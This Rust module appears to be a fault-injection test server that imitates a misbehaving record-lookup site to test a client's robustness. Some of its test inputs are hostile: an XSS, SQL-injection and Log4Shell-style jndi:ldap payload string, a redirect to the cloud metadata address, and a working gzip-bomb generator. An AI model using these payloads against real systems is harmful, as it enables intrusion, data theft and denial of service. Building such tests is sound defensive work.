//! The ways in which the pretend site misbehaves: each is an answer, or a handling of the connection, that a
//! locator was seen to give or could give. None of them may ever read as "not on the list", but `Zero` alone,
//! which is the very sentence, said when it is not true.

use super::pages::{self, Extra, HTML, JSON, Nonces};
use super::roster;
use super::site::{Form, Page, Resident, Robots, View, stranger};
use super::wire::{Act, Answer, chunk};
use bytes::Bytes;
use chrono::{DateTime, TimeDelta, Utc};
use flate2::{Compress, Compression, Crc, FlushCompress, write::GzEncoder};
use std::io::Write;
use std::sync::LazyLock;
use std::time::Duration;

/// One way to misbehave.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Fault {
    // Pages that are about nobody.
    /// 200 with "Internal Error … Our apologies".
    InternalError,
    ServerError500,
    NotFound404,
    /// 304 to a question that set no condition.
    NotModified304,
    /// 403 with "Access Denied".
    Forbidden403,
    /// 200 with a challenge; in the JSON form, `"Captcha": true`.
    Captcha,
    /// 429 with this `Retry-After`; none when empty.
    TooMany429 {
        retry_after: String,
    },
    Unavailable503,
    Maintenance,
    WaitingRoom,
    CaptivePortal,
    /// The search form in the place of the result.
    SessionForm,
    /// 302 to the site's home page.
    RedirectHome,
    /// 302 to another host.
    RedirectAway,
    /// 302 to an address inside the network.
    RedirectInward,
    /// 302 to itself, for ever.
    RedirectLoop,
    /// 200 without a body.
    Empty,

    // Pages that say something else about the person.
    /// The same facts in another build of the page.
    OtherLayout,
    Spanish,
    /// The record of somebody else.
    OtherPerson,
    TwoRecords,
    /// A record and the zero sentence.
    Contradiction,
    /// The zero sentence, though there is a record.
    Zero,
    /// The honest page, with the zero sentence where no reader sees it.
    ZeroHidden,
    /// A record whose values are script, controls, marks and commands.
    HostileText,
    /// An old copy: `Age`, an old `Date`, and the same tokens each time.
    Stale,
    /// The honest page of a site whose clock is 20 minutes ahead.
    ClockOff,

    // Bytes.
    /// The length is right, the end of the page is missing.
    Unfinished,
    /// Says UTF-8 and is not.
    NotUtf8,
    /// 200,000 open tags or brackets, one in the other.
    Deep,
    /// 1 GiB of zeros in about 1 MiB of gzip.
    GzipBomb,
    /// The honest page, compressed: no fault.
    Gzip,
    NestedGzip,
    /// Says gzip and is plain.
    FalseGzip,
    /// Is gzip and does not say so.
    SilentGzip,
    /// The honest page in chunks: no fault.
    Chunked,

    // The connection.
    /// Fewer bytes than announced.
    Truncated,
    /// Chunks without the last one.
    ChunkedCut,
    /// The whole answer, byte by byte.
    Drip {
        every: Duration,
    },
    /// Chunk after chunk without end.
    Endless,
    /// Nothing at all, and the connection stays open.
    Hang,
    /// Half of the answer, and the connection stays open.
    Stall,
    /// One header of 1 MiB.
    HugeHeaders,
    /// 10,000 headers.
    ManyHeaders,
    /// 300 cookies, one of them of 1 MiB for another domain.
    CookieFlood,
    /// A hundred 103 answers before the honest one.
    EarlyHints,
    /// Bytes that are no HTTP.
    Garbage,
    /// Hangs up without a word.
    ClosedUnanswered,
}

/// One question, what an honest answer shows, and how it shall be answered.
pub struct Scene {
    pub page: Page,
    pub target: String,
    pub found: Vec<Resident>,
    pub fault: Option<Fault>,
    pub robots: Robots,
    pub now: DateTime<Utc>,
    pub nonce: u64,
}

impl Fault {
    /// Every fault once, with middling values: for tests that want them all.
    pub fn all() -> Vec<Fault> {
        use Fault::*;
        vec![
            InternalError,
            ServerError500,
            NotFound404,
            NotModified304,
            Forbidden403,
            Captcha,
            TooMany429 { retry_after: "120".to_owned() },
            Unavailable503,
            Maintenance,
            WaitingRoom,
            CaptivePortal,
            SessionForm,
            RedirectHome,
            RedirectAway,
            RedirectInward,
            RedirectLoop,
            Empty,
            OtherLayout,
            Spanish,
            OtherPerson,
            TwoRecords,
            Contradiction,
            Zero,
            ZeroHidden,
            HostileText,
            Stale,
            ClockOff,
            Unfinished,
            NotUtf8,
            Deep,
            GzipBomb,
            Gzip,
            NestedGzip,
            FalseGzip,
            SilentGzip,
            Chunked,
            Truncated,
            ChunkedCut,
            Drip { every: Duration::from_millis(200) },
            Endless,
            Hang,
            Stall,
            HugeHeaders,
            ManyHeaders,
            CookieFlood,
            EarlyHints,
            Garbage,
            ClosedUnanswered,
        ]
    }

    /// Whether a careful reader still gets the true answer.
    pub fn is_harmless(&self) -> bool {
        matches!(self, Fault::ZeroHidden | Fault::Gzip | Fault::Chunked | Fault::EarlyHints | Fault::ClockOff)
    }
}

impl Scene {
    /// What happens on the connection.
    pub fn acts(&self) -> Vec<Act> {
        match (&self.page, &self.fault) {
            (Page::Home, _) => self.dated(roster::home(&mut self.nonces())).whole(),
            (Page::Missing, _) => self.dated(plain(404, "not found\n")).whole(),
            (Page::Robots, _) => self.robots(),
            (Page::Answer { form, .. }, None) => self.honest(*form).whole(),
            (Page::Answer { form, .. }, Some(fault)) => self.faulty(*form, fault),
        }
    }

    fn robots(&self) -> Vec<Act> {
        let answer = match &self.robots {
            Robots::Absent => plain(404, "not found\n"),
            Robots::Text(text) => plain(200, text),
            Robots::ServerError => plain(500, "error\n"),
            Robots::Forbidden => plain(403, "forbidden\n"),
            Robots::Silent => return vec![Act::Silence],
        };
        self.dated(answer).whole()
    }

    fn honest(&self, form: Form) -> Answer {
        self.showing(form, &self.found, Extra::Nothing)
    }

    fn showing(&self, form: Form, found: &[Resident], extra: Extra) -> Answer {
        self.dated(pages::answer(form, found, extra, &mut self.nonces()))
    }

    fn nonces(&self) -> Nonces {
        Nonces::new(self.nonce)
    }

    fn dated(&self, answer: Answer) -> Answer {
        answer.dated(self.now)
    }

    /// The record of whom was asked for, or of somebody when there is none.
    fn at_least_one(&self) -> Vec<Resident> {
        if self.found.is_empty() { vec![stranger(0)] } else { self.found.clone() }
    }

    /// An answer of another kind, or the honest one with its bytes or its connection mishandled.
    fn faulty(&self, form: Form, fault: &Fault) -> Vec<Act> {
        let n = &mut self.nonces();
        let honest = self.honest(form);
        let body = honest.body.clone();
        let answer = match fault {
            Fault::InternalError => pages::internal_error(form),
            Fault::ServerError500 => Answer::new(500, HTML, "<h1>500 Internal Server Error</h1>\n"),
            Fault::NotFound404 => Answer::new(404, HTML, "<h1>404 Not Found</h1>\n"),
            Fault::NotModified304 => return vec![send(self.dated(bare(304)).head(""))],
            Fault::Forbidden403 => pages::access_denied(n),
            Fault::Captcha => pages::captcha(form, n),
            Fault::TooMany429 { retry_after } => too_many(retry_after),
            Fault::Unavailable503 => Answer::new(503, HTML, "<h1>503 Service Unavailable</h1>\n"),
            Fault::Maintenance => roster::notice(
                "Maintenance",
                "The system is currently unavailable for maintenance",
                "Scheduled maintenance is in progress. Please try again later.",
                n,
            ),
            Fault::WaitingRoom => roster::notice(
                "Waiting Room",
                "You are now in line",
                "Many people are using this service. Your number in line is 4031. This page refreshes by itself.",
                n,
            ),
            Fault::CaptivePortal => pages::captive_portal(),
            Fault::SessionForm => roster::home(n),
            Fault::RedirectHome => bare(302).with("Location", "/"),
            Fault::RedirectAway => bare(302).with("Location", "http://elsewhere.example/result"),
            Fault::RedirectInward => bare(302).with("Location", "http://169.254.169.254/latest/meta-data/"),
            Fault::RedirectLoop => bare(302).with("Location", self.target.clone()),
            Fault::Empty => Answer::new(200, if form == Form::Bop { JSON } else { HTML }, ""),
            Fault::OtherLayout => pages::other_layout(form, &self.found),
            Fault::Spanish => pages::spanish(form, &self.found, n),
            Fault::OtherPerson => pages::answer(form, &[stranger(1)], Extra::Nothing, n),
            Fault::TwoRecords => {
                let two = [self.at_least_one().remove(0), stranger(1)];
                pages::answer(form, &two, Extra::Nothing, n)
            }
            Fault::Contradiction => pages::answer(form, &self.at_least_one(), Extra::ZeroToo, n),
            Fault::Zero => pages::answer(form, &[], Extra::Nothing, n),
            Fault::ZeroHidden => pages::answer(form, &self.found, Extra::ZeroHidden, n),
            Fault::HostileText => {
                let hostile: Vec<Resident> = self.at_least_one().into_iter().map(hostile).collect();
                pages::answer(form, &hostile, Extra::Nothing, n)
            }
            Fault::Stale => {
                let old = pages::answer(form, &self.found, Extra::Nothing, &mut Nonces::new(0));
                return old.with("Age", "86400").dated(self.now - TimeDelta::days(1)).whole();
            }
            Fault::ClockOff => {
                let answer = pages::answer(form, &self.found, Extra::Nothing, n);
                return answer.dated(self.now + TimeDelta::minutes(20)).whole();
            }
            Fault::Deep => deep(form),
            Fault::Unfinished => return with_body(&honest, body[..body.len() * 3 / 4].to_vec()).whole(),
            Fault::NotUtf8 => {
                let (start, end) = body.split_at(body.len() / 2);
                return with_body(&honest, [start, b"\xff\xfe\0\xc3(", end].concat()).whole();
            }
            Fault::GzipBomb => return coded(&honest, "gzip", BOMB.clone()),
            Fault::Gzip => return coded(&honest, "gzip", gzip(&body)),
            Fault::NestedGzip => return coded(&honest, "gzip, gzip", gzip(&gzip(&body))),
            Fault::FalseGzip => return coded(&honest, "gzip", body),
            Fault::SilentGzip => return with_body(&honest, gzip(&body)).whole(),
            Fault::Chunked => return vec![send(honest.chunked())],
            Fault::Truncated => return half(&honest, Act::Close),
            Fault::ChunkedCut => {
                let mut wire = honest.chunked();
                wire.truncate(wire.len() - b"0\r\n\r\n".len());
                return vec![send(wire), Act::Close];
            }
            Fault::Drip { every } => {
                let bytes = [honest.head_for(body.len()).as_slice(), &body].concat();
                return vec![Act::Drip { bytes: bytes.into(), every: *every }];
            }
            Fault::Endless => {
                let head = send(honest.head("Transfer-Encoding: chunked\r\n"));
                return vec![head, send(chunk(&body)), Act::Forever(chunk(&[b' '; 16 * 1024]).into())];
            }
            Fault::Hang => return vec![Act::Silence],
            Fault::Stall => return half(&honest, Act::Silence),
            Fault::HugeHeaders => return honest.with("X-Padding", "x".repeat(1024 * 1024)).whole(),
            Fault::ManyHeaders => {
                return (0..10_000).fold(honest, |a, i| a.with("X-Padding", i.to_string())).whole();
            }
            Fault::CookieFlood => return cookies(honest).whole(),
            Fault::EarlyHints => return [vec![early_hints()], honest.whole()].concat(),
            Fault::Garbage => {
                let noise = b"\x16\x03\x01\0\0no such protocol\r\n\r\n<html>".to_vec();
                return vec![send(noise), Act::Close];
            }
            Fault::ClosedUnanswered => return vec![Act::Close],
        };
        self.dated(answer).whole()
    }
}

fn send(bytes: Vec<u8>) -> Act {
    Act::Send(bytes.into())
}

fn bare(status: u16) -> Answer {
    Answer { status, headers: Vec::new(), body: Bytes::new() }
}

fn plain(status: u16, text: &str) -> Answer {
    Answer::new(status, "text/plain; charset=utf-8", text.to_owned())
}

fn too_many(retry_after: &str) -> Answer {
    let answer = Answer::new(429, HTML, "<h1>429 Too Many Requests</h1>\n");
    if retry_after.is_empty() { answer } else { answer.with("Retry-After", retry_after) }
}

fn with_body(honest: &Answer, body: impl Into<Bytes>) -> Answer {
    Answer { body: body.into(), ..honest.clone() }
}

fn coded(honest: &Answer, coding: &str, body: impl Into<Bytes>) -> Vec<Act> {
    with_body(honest, body).with("Content-Encoding", coding).whole()
}

fn early_hints() -> Act {
    send("HTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload\r\n\r\n".repeat(100).into_bytes())
}

fn half(honest: &Answer, then: Act) -> Vec<Act> {
    let body = &honest.body;
    vec![send(honest.head_for(body.len())), send(body[..body.len() / 2].to_vec()), then]
}

fn cookies(honest: Answer) -> Answer {
    let many = (0..300).fold(honest, |a, i| a.with("Set-Cookie", format!("c{i}=1; Path=/")));
    many.with("Set-Cookie", format!("big={}; Domain=elsewhere.example", "x".repeat(1024 * 1024)))
}

/// Values that hurt a careless page, terminal, table or log.
fn hostile(resident: Resident) -> Resident {
    let place = "<script>alert(1)</script><img src=x onerror=alert(2)></textarea>\u{202e}RETNEC\u{200b}\
        {{7*7}} ${jndi:ldap://x.example/a} %n ../../x '; DROP TABLE checks; -- \u{1b}[2J=1+1"
        .to_owned();
    let marks = "\u{301}".repeat(10_000);
    Resident { view: View::Listed { place: format!("{place} E{marks}") }, ..resident }
}

fn deep(form: Form) -> Answer {
    const DEPTH: usize = 200_000;
    if form == Form::Bop {
        return Answer::new(
            200,
            JSON,
            format!("{{\"Captcha\":false,\"InmateLocator\":{}", "[".repeat(DEPTH)),
        );
    }
    Answer::new(200, HTML, format!("<!DOCTYPE html><html lang=\"en\"><body>{}", "<div>".repeat(DEPTH)))
}

fn gzip(body: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(body).expect("a vector takes every byte");
    encoder.finish().expect("a vector takes every byte")
}

static BOMB: LazyLock<Bytes> = LazyLock::new(|| gzip_bomb(1024).into());

/// So many MiB of zeros as one gzip member (RFC 1952): one compressed MiB, again and again, with the
/// checksum that the whole has.
fn gzip_bomb(mebibytes: u32) -> Vec<u8> {
    let zeros = vec![0; 1024 * 1024];
    let mut part = Vec::with_capacity(16 * 1024);
    Compress::new(Compression::best(), false)
        .compress_vec(&zeros, &mut part, FlushCompress::Full)
        .expect("zeros compress");
    let mut one = Crc::new();
    one.update(&zeros);
    let mut all = Crc::new();
    (0..mebibytes).for_each(|_| all.combine(&one));
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    (0..mebibytes).for_each(|_| file.extend(&part));
    // An empty last block.
    file.extend([3, 0]);
    file.extend(all.sum().to_le_bytes());
    file.extend(mebibytes.wrapping_mul(1024 * 1024).to_le_bytes());
    file
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;
    use std::io::Read;

    #[test]
    fn the_bomb_is_one_whole_member_and_a_mebibyte_or_so_for_a_gibibyte() {
        let mut out = Vec::new();
        flate2::read::GzDecoder::new(gzip_bomb(3).as_slice()).read_to_end(&mut out).unwrap();
        assert_eq!(out.len(), 3 * 1024 * 1024);
        assert!(out.iter().all(|b| *b == 0));
        assert!(BOMB.len() < 1_300_000, "{}", BOMB.len());
    }

    #[test]
    fn every_fault_is_there_once() {
        let names: HashSet<String> = Fault::all().iter().map(|f| format!("{f:?}")).collect();
        assert_eq!(names.len(), Fault::all().len());
    }
}
